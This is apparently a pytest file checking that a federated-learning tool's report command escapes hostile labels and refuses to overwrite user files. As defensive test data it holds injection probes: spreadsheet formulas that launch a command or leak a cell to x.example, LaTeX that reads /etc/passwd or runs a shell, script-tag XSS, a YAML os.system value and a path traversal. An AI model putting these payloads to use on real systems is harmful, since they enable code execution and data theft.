"""Hostile input to ``fedlt report`` (issue 35): outputs never replace a file fedlt did not write
or an input; copied text cannot run in a spreadsheet, LaTeX or a Markdown viewer; damaged
metrics or manifests are one line; a very long per-class list draws in bounded time.

Every refusal: exit 2, one line on stderr, no traceback, and the files under the test's folder
byte-identical afterwards. No training: the run directories are written by hand.
"""

from __future__ import annotations

import csv
import hashlib
import io as stdio
import json
import re
import time
from pathlib import Path

import pytest

from fedlt import outputs
from fedlt.cli import main
from fedlt.report import csv_cell, latex_escape, load_study, markdown_escape, render_study
from fedlt.sweep import Study
from fedlt.sweep.study import plan, write_manifest

BASE = dict(model="mlp", train_limit=300, test_limit=200, clients=4, participation=1.0, rounds=2, local_iters=2,
            server_batch=40, eval_every=1)
# the probe's strings (issue 35): spreadsheet formulas, LaTeX commands, HTML and a comment's end
PROBES = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "$\\input{/etc/passwd}$",
          "\\immediate\\write18{touch pwned}", "<img src=x onerror=alert(1)>", "--><script>alert(1)</script>"]


def tree(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): "dir" if p.is_dir() else hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*"))}


def fails_cleanly(argv: list[str], capsys, watch: Path) -> str:
    """exit 2, one stderr line without a traceback, nothing under ``watch`` created or changed."""
    before = tree(watch)
    with pytest.raises(SystemExit) as info:
        main([str(a) for a in argv])
    err = capsys.readouterr().err.strip()
    assert info.value.code == 2, err
    assert len(err.splitlines()) == 1 and err.startswith("error:") and "Traceback" not in err, err
    assert tree(watch) == before, err
    return err


def succeeds(argv: list[str], capsys) -> str:
    try:
        main([str(a) for a in argv])
    except SystemExit as exc:
        assert not exc.code, capsys.readouterr().err
    return capsys.readouterr().out


def write_run(run_dir: Path, rows: list[dict], rounds: int | None = None) -> Path:
    run_dir.mkdir(parents=True)
    (run_dir / "config.json").write_text(json.dumps({"algorithm": "fedavg", "rounds": rounds or len(rows)}))
    (run_dir / "metrics.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    if rounds is not None:
        (run_dir / "summary.json").write_text(json.dumps({"rounds": rounds, "wall_time_s": 1.0}))
    return run_dir


def study(tmp_path: Path, labels: list[str]) -> Path:
    """A finished study of one axis whose cells are labelled ``labels`` (as a damaged or hostile
    study.json would name them), one seed each."""
    out = tmp_path / "study"
    manifest = plan(Study(dict(BASE), {"optimiser.lr": [0.1 * (i + 1) for i in range(len(labels))]}), out)
    for entry, label in zip(manifest["runs"], labels):
        entry["label"] = {"optimiser.lr": label}
        write_run(out / entry["dir"], [{"round": 1, "accuracy": 0.5, "per_class_accuracy": [0.5, 0.25]},
                                       {"round": 2, "accuracy": 0.75, "per_class_accuracy": [0.75, 0.5]}], rounds=2)
    write_manifest(out, manifest)
    return out


@pytest.fixture
def hostile(tmp_path) -> tuple[Path, Path]:
    """A study labelled with the probes, and a reference CSV (named to close an HTML comment)
    copying them, with a real negative number beside them."""
    out = study(tmp_path, PROBES)
    reference = tmp_path / "ref--><img src=x onerror=alert(1)>.csv"
    buffer = stdio.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["optimiser.lr", "paper %", "delta"])
    writer.writerows([probe, probe, "-3.5"] for probe in PROBES)
    reference.write_text(buffer.getvalue())
    return out, reference


# -- escaping ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-3.5", "-3.5"), ("-1e-3", "-1e-3"), ("-x", "'-x"), ("@x", "'@x"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("plain", "plain"), (-2.0, -2.0), ("", "")])
def test_a_csv_cell_that_could_be_a_formula_gets_a_quote_and_a_number_stays_a_number(value, expected):
    assert csv_cell(value) == expected


def test_the_csv_output_neutralises_every_probe_and_keeps_negative_numbers(hostile):
    out, reference = hostile
    manifest, cells, _ = load_study(out)
    text = render_study(manifest, cells, "csv", metrics=["final_accuracy"], reference=reference)
    lines = list(csv.reader(stdio.StringIO(text)))
    body = lines[1:]
    assert len(body) == len(PROBES)
    for line in body:
        assert line[0] == "'" + line[0][1:] and line[0][1:] in PROBES or not line[0].startswith(("=", "+", "-", "@"))
        for cell in line:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("'"), cell
            assert not cell.startswith("-") or cell == "-3.5", cell
    assert [line[0] for line in body] == ["'" + p if p[0] in "=+-@" else p for p in PROBES]
    assert all(line[-1] == "-3.5" for line in body)  # a real number is left as one


def test_the_latex_output_escapes_every_command_and_dollar(hostile):
    out, reference = hostile
    manifest, cells, _ = load_study(out)
    text = render_study(manifest, cells, "latex", metrics=["final_accuracy"], reference=reference)
    plain = text.replace(r"\textbackslash{}", "")
    for command in (r"\input", r"\immediate", r"\write18"):
        assert command not in plain
    assert r"\textbackslash{}input\{/etc/passwd\}" in text
    body = [line for line in text.splitlines() if "onerror" in line or "passwd" in line]
    assert body and all("$" not in line.replace(r"\$", "").replace("$75.00$", "") for line in body)
    assert latex_escape("a_b & 50% #1 ~^ {x} <y> |") == (r"a\_b \& 50\% \#1 \textasciitilde{}\textasciicircum{} "
                                                          r"\{x\} \textless{}y\textgreater{} \textbar{}")


def test_the_markdown_output_escapes_html_and_cannot_close_its_comment(hostile, capsys):
    out, reference = hostile
    text = succeeds(["report", out, "--metric", "final_accuracy", "--reference", reference], capsys)
    lines = text.splitlines()
    assert lines[0].startswith("<!-- ") and lines[0].endswith(" -->") and lines[0].count("--") == 2
    assert "-->" not in "\n".join(lines[1:]) and "<" not in "\n".join(lines[1:])
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert all(len(line.split(" | ")) == 5 for line in lines[3:])  # no probe adds a column
    assert markdown_escape("a|b<c>`[x](y)` & \\") == "a\\|b&lt;c&gt;\\`\\[x\\](y)\\` &amp; \\\\"


def test_figures_of_probe_labels_are_drawn_as_text(hostile, tmp_path, capsys):
    out, _ = hostile
    succeeds(["report", out, "--plot", tmp_path / "figs"], capsys)  # '$\input...$' is not parsed as mathtext
    assert (tmp_path / "figs" / "accuracy.png").stat().st_size > 5000


# -- never replace a file fedlt did not write, nor an input ---------------------------------------------
@pytest.mark.parametrize("target, words", [
    ("notes.md", "not written by fedlt"),
    ("base.toml", "not written by fedlt"),
    ("study/study.json", "is an input"),
    ("ref.csv", "is an input"),
    ("study/runs/optimiser.lr=0.1__seed0/metrics.jsonl", "run"),
])
@pytest.mark.parametrize("force", [False, True])
def test_report_output_refuses_user_files_and_inputs_even_with_force(tmp_path, capsys, target, words, force):
    out = study(tmp_path, ["0.1"])
    (tmp_path / "notes.md").write_text("my notes\n")
    (tmp_path / "base.toml").write_text("rounds = 2\n")
    (tmp_path / "ref.csv").write_text("optimiser.lr,paper\n0.1,90\n")
    target = tmp_path / target
    if "runs/" in str(target):
        target = next((out / "runs").iterdir()) / "metrics.jsonl"
    err = fails_cleanly(["report", out, "--output", target, "--reference", tmp_path / "ref.csv",
                         *(["--force"] if force else [])], capsys, tmp_path)
    assert words in err and str(target.name) in err


def test_report_output_replaces_its_own_file_only_with_force_and_never_once_edited(tmp_path, capsys):
    out = study(tmp_path, ["0.1"])
    table = tmp_path / "tables" / "t.md"
    succeeds(["report", out, "--output", table], capsys)
    assert outputs.owned(table.parent) == {"t.md": hashlib.sha256(table.read_bytes()).hexdigest()}
    err = fails_cleanly(["report", out, "--output", table], capsys, tmp_path)
    assert "--force" in err
    succeeds(["report", out, "--output", table, "--format", "csv", "--force"], capsys)
    assert table.read_text().startswith("optimiser.lr,n,")
    table.write_text("edited by hand\n")  # no longer what fedlt wrote: never replaced
    err = fails_cleanly(["report", out, "--output", table, "--force"], capsys, tmp_path)
    assert "not written by fedlt" in err


@pytest.mark.parametrize("kind", ["study", "runs"])
def test_plot_refuses_a_folder_holding_the_users_figure(tmp_path, capsys, kind):
    out = study(tmp_path, ["0.1"])
    figs = tmp_path / "figs"
    figs.mkdir()
    (figs / "accuracy.png").write_bytes(b"my figure")
    source = [out] if kind == "study" else [next((out / "runs").iterdir())]
    for force in ([], ["--force"]):
        err = fails_cleanly(["report", *source, "--plot", figs, *force], capsys, tmp_path)
        assert "accuracy.png" in err and "not written by fedlt" in err
    (figs / "accuracy.png").unlink()
    succeeds(["report", *source, "--plot", figs], capsys)  # an empty folder: fedlt's from now on
    fails_cleanly(["report", *source, "--plot", figs], capsys, tmp_path)
    succeeds(["report", *source, "--plot", figs, "--force"], capsys)


@pytest.mark.parametrize("flag, name", [("--plot", "heat.png"), ("--save", "part.npz")])
def test_partition_refuses_to_overwrite_a_file_fedlt_did_not_write(tmp_path, capsys, flag, name):
    (tmp_path / name).write_bytes(b"mine")
    err = fails_cleanly(["partition", "--dataset", "fake10", "--clients", "4", flag, tmp_path / name], capsys, tmp_path)
    assert "not written by fedlt" in err


# -- damaged inputs: one line -----------------------------------------------------------------------
def test_null_accuracy_rows_are_rounds_not_evaluated(tmp_path, capsys):
    run = write_run(tmp_path / "r", [{"round": 1, "accuracy": None}, {"round": 2, "accuracy": None},
                                     {"round": 3, "accuracy": 0.5}], rounds=3)
    assert "50.00" in succeeds(["report", run], capsys)
    empty = write_run(tmp_path / "e", [{"round": 1, "accuracy": None}, {"round": 2, "accuracy": None}])
    assert "no evaluated round" in fails_cleanly(["report", empty], capsys, tmp_path)


@pytest.mark.parametrize("damage, words", [
    (lambda m: m["runs"][0].pop("label"), "label"),
    (lambda m: m["runs"].__setitem__(0, "runs/x"), "runs[0] is str"),
    (lambda m: m.pop("study"), "study is missing"),
    (lambda m: m["study"].pop("axes"), "axes"),
    (lambda m: m["runs"][0].pop("id"), "id"),
    (lambda m: m["study"].__setitem__("base", "!!python/object/apply:os.system ['touch pwned']"), "base"),
    (lambda m: m["runs"][0].__setitem__("dir", "../../etc"), "dir"),
])
def test_a_damaged_study_manifest_is_one_line_naming_the_field(tmp_path, capsys, damage, words):
    out = study(tmp_path, ["0.1", "0.2"])
    manifest = json.loads((out / "study.json").read_text())
    damage(manifest)
    (out / "study.json").write_text(json.dumps(manifest))
    err = fails_cleanly(["report", out], capsys, tmp_path)
    assert "study.json is a damaged study manifest" in err and words in err


def test_a_very_long_per_class_list_is_drawn_binned_in_bounded_time(tmp_path, capsys):
    classes = 200_000  # as grouped bars: 200,000 rectangles; binned: 1,000 points
    row = {"round": 1, "accuracy": 0.5, "per_class_accuracy": [round((i % 7) / 7, 3) for i in range(classes)]}
    run = write_run(tmp_path / "long", [row], rounds=1)
    started = time.perf_counter()
    succeeds(["report", run, "--plot", tmp_path / "figs"], capsys)
    assert time.perf_counter() - started < 30
    assert (tmp_path / "figs" / "per_class.png").stat().st_size > 5000


def test_rich_markup_in_a_run_name_is_shown_as_written(tmp_path, capsys):
    run = write_run(tmp_path / "[red]x", [{"round": 1, "accuracy": 0.5}], rounds=1)
    assert re.search(r"\[red\]x", succeeds(["report", run], capsys))
